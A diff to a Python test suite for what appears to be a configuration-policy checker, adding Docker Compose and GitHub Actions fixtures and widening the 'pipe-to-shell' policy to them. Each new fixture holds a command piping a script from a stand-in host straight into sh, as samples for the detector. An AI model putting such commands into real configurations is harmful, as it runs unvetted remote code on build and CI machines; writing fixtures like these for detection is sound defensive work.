@@ -38,9 +38,30 @@ DOWNLOAD = {
     - name: Install
       ansible.builtin.shell: curl -s https://x.example.com/a.sh | sh
 """,
+    "compose": """services:
+  web:
+    image: nginx:1.27
+    healthcheck:
+      test: curl -s https://x.example.com/a.sh | sh
+""",
+    "github-actions": """on: push
+permissions: {}
+jobs:
+  setup:
+    runs-on: ubuntu-24.04
+    steps:
+      - run: curl -s https://x.example.com/a.sh | sh
+""",
 }
 WORDS = {
-    "pipe-to-shell": {"dockerfile", "gitlab-ci", "jenkins", "ansible"},
+    "pipe-to-shell": {
+        "dockerfile",
+        "compose",
+        "github-actions",
+        "gitlab-ci",
+        "jenkins",
+        "ansible",
+    },
     "unpinned": {
         "kubernetes",
         "dockerfile",
@@ -134,7 +155,7 @@ def test_a_policy_counts_where_the_category_has_it(name: str) -> None:
 
 def test_a_policy_that_the_category_does_not_have_changes_nothing() -> None:
     request = VerifyRequest(text="services:\n  web:\n    image: nginx:1.27\n", category="compose")
-    listed = request.model_copy(update={"policies": ("pipe-to-shell",)})
+    listed = request.model_copy(update={"policies": ("iam-wildcard",)})
     assert score(listed) == score(request)
 
 
